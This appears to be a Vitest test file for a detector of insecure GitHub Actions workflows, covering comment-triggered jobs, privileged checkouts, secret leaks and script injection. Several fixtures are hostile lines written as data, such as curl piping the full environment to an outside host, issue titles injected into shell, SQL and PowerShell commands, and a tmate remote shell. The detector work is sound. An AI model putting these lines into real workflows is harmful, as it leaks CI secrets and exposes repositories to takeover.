// Who may start a job, what it publishes of its secrets, and what a program reads of event text.
import { describe, expect, it } from 'vitest';
import { allFindings } from '../../../../test/detector-findings.ts';
import { workflows } from './index.ts';

const found = (body: string, path = '.github/workflows/a.yml'): string[] =>
  allFindings(
    workflows,
    path,
    body,
    'workflows',
    'shell',
    'dependencies',
    'code/sql-injection',
    'code/command-injection',
  ).filter((one) => !one.startsWith('trigger-with-secrets'));
const flow = (on: string, steps: string, job = '', top = 'permissions: {}'): string =>
  `on: ${on}\n${top}\njobs:\n  build:\n    runs-on: ubuntu-latest\n${job.replace(/^(?=.)/gm, '    ')}\n    steps:\n${steps.replace(/^(?=.)/gm, '      ')}\n`;
const given = (script: string, shell = 'bash'): string =>
  flow(
    'issues',
    `- env: {T: "\${{ github.event.issue.title }}"}\n  shell: ${shell}\n  run: |\n    ${script}`,
  );
const secret = '\n  env: {K: "${{ secrets.KEY }}"}';
const upload = (path: string): string => `- uses: actions/upload-artifact@v4\n  with: {path: ${path}}`;
const labelled = (types: string, ref = 'sha'): string =>
  flow(
    `{pull_request_target: {types: ${types}}}`,
    `- uses: actions/checkout@v4\n  with: {ref: "\${{ github.event.pull_request.head.${ref} }}"}\n- run: make${secret}`,
    "if: contains(github.event.pull_request.labels.*.name, 'ok')",
  );

describe('rights of workflows', () => {
  it.each<[expected: string, body: string]>([
    [
      'comment-starts-job-for-anyone medium',
      flow('issue_comment', `- run: ./deploy${secret}`, "if: contains(github.event.comment.body, '/deploy')"),
    ],
    [
      'comment-starts-job-for-anyone low',
      flow(
        'issue_comment',
        '- run: ./deploy',
        "if: startsWith(github.event.comment.body, '/tag')\npermissions: {contents: write}",
      ),
    ],
    [
      'comment-starts-job-for-anyone medium',
      flow(
        '{issue_comment: {types: [created]}}',
        `- run: make release${secret}`,
        "if: github.event.comment.body == '/release'",
      ),
    ],
    ['stranger-checkout-in-privileged-workflow medium', labelled('[labeled, synchronize]')],
    ['stranger-checkout-in-privileged-workflow medium', labelled('[labeled]', 'ref')],
    ['stranger-checkout-in-privileged-workflow low', labelled('[labeled]')],
    ['excessive-workflow-permissions low', flow('push', '- run: make', '', 'env: {A: b}')],
    [
      'excessive-workflow-permissions low',
      flow('pull_request_target', '- run: make push', 'permissions: {id-token: write}'),
    ],
    ['secret-exposed-in-workflow high', flow('push', '- run: curl -d "$(env)" https://c.tool.dev')],
    ['secret-exposed-in-workflow high', flow('push', '- run: printenv | curl -d @- https://c.tool.dev')],
    [
      'secret-exposed-in-workflow medium',
      flow('push', `- run: echo "$K" > keys/sign.txt${secret}\n${upload('keys')}`),
    ],
    ['secret-exposed-in-workflow medium', flow('push', upload('"config/.env"'))],
    ['secret-exposed-in-workflow low', flow('push', '- run: make\n  env: {ACTIONS_STEP_DEBUG: true}')],
    ['remote-shell medium', flow('push', `- uses: mxschmitt/action-tmate@${'0'.repeat(40)}`)],
    [
      'publish-token-without-end low',
      flow('push', '- run: npm publish\n  env: {NODE_AUTH_TOKEN: "${{ secrets.N }}"}'),
    ],
    ['unpinned-dependency low', flow('push', `- run: npm install -g tool${secret}`)],
    ['unpinned-dependency low', flow('push', `- run: npx --yes tool${secret}`)],
    ['abandoned-action low', flow('push', `- uses: actions/create-release@${'0'.repeat(40)}`)],
    ['abandoned-action low', flow('push', `- uses: actions/upload-release-asset@${'0'.repeat(40)}`)],
    ['abandoned-action low', flow('push', `- uses: actions-rs/toolchain@${'0'.repeat(40)}`)],
    [
      'self-hosted-runner-for-pull-requests low',
      'on: pull_request\npermissions: {}\njobs:\n  a:\n    strategy: {matrix: {os: [ubuntu-latest, self-hosted]}}\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: make\n',
    ],
    [
      'spoofable-bot-check medium',
      flow(
        'pull_request_target',
        '- run: gh pr merge',
        'if: contains(fromJSON(\'["dependabot[bot]"]\'), github.actor)',
      ),
    ],
    [
      'untrusted-artifact-used medium',
      flow('workflow_run', '- run: |\n    gh run download 1 -n site\n    sh site/deploy.sh'),
    ],
    ['expression-in-run-script high', given('python3 -c "print(\'$T\')"')],
    ['expression-in-run-script medium', given('sed -i "s/a/$T/" notes.md')],
    ['expression-in-run-script medium', given('awk "/$T/" notes.md')],
    ['sql-from-interpolation medium', given('psql -c "insert into notes values (\'$T\')"')],
    ['option-from-argument low', given('git checkout $T')],
    [
      'event-text-in-runner-environment medium',
      given('"T=$env:T" | Out-File $env:GITHUB_ENV -Append', 'pwsh'),
    ],
    ['expression-in-run-script high', given('Invoke-Expression "./a.ps1 $env:T"', 'pwsh')],
  ])('%s', (expected, body) => expect(found(body)).toEqual([expected]));

  it.each<[name: string, body: string]>([
    [
      'a comment of members',
      flow(
        'issue_comment',
        `- run: ./deploy${secret}`,
        "if: github.event.comment.body == '/deploy' && github.event.comment.author_association == 'OWNER'",
      ),
    ],
    [
      'a comment without rights',
      flow('issue_comment', '- run: ./greet', "if: github.event.comment.body == '/hi'"),
    ],
    ['an answer sent', flow('push', '- run: curl -d "$(cat out.json)" https://c.tool.dev')],
    ['what was built', flow('push', `- run: echo "$K" > key.txt && make${secret}\n${upload('dist')}`)],
    ['an example of settings', flow('push', upload('.env.example'))],
    [
      'a shell for one person',
      flow('push', `- uses: mxschmitt/action-tmate@${'0'.repeat(40)}\n  with: {limit-access-to-actor: true}`),
    ],
    ['versions', flow('push', `- run: npm i -g tool@1.2.3 && pip install tool==1 && npx tool${secret}`)],
    [
      'inputs of few values',
      flow(
        '{workflow_dispatch: {inputs: {n: {type: number}, e: {type: choice, options: [a]}}}}',
        '- run: ./x ${{ inputs.n }} ${{ github.event.inputs.e }}',
      ),
    ],
    [
      'values of programs',
      given('awk -v t="$T" \'$0 ~ t\' a && jq --arg t "$T" \'.a = $t\' b && grep -- "$T" c'),
    ],
    [
      'a number that was tested',
      flow(
        'workflow_run',
        '- run: |\n    gh run download 1 -n pr\n    n=$(cat pr/n)\n    [[ "$n" =~ ^[0-9]+$ ]] || exit 1\n    echo "n=$n" >> "$GITHUB_OUTPUT"',
      ),
    ],
    ['output of PowerShell', given('"ok=1" >> $env:GITHUB_OUTPUT', 'pwsh')],
  ])('leaves alone: %s', (_, body) => expect(found(body)).toEqual([]));

  it.each([
    ['allow', ['updates-run-code medium']],
    ['"allow"', ['updates-run-code medium']],
    ["'allow' # for gemspecs", ['updates-run-code medium']],
    ['deny', []],
  ])('reads what updates may run: %s', (word, expected) =>
    expect(
      found(
        `version: 2\nupdates:\n  - package-ecosystem: bundler\n    insecure-external-code-execution: ${word}\n`,
        '.github/dependabot.yml',
      ),
    ).toEqual(expected),
  );

  it.each([
    ['      - run: echo "${{ github.event.issue.title }}"\n', ['expression-in-run-script high']],
    // Not YAML, and still a script.
    [
      '      - run: curl -H "A: b" "${{ github.event.issue.title }}"\n',
      ['not checked', 'expression-in-run-script medium'],
    ],
    ['      - name: Fix ${{ github.event.issue.title }}\n', []],
  ])('reads an excerpt: %s', (body, expected) => expect(found(body)).toEqual(expected));
});
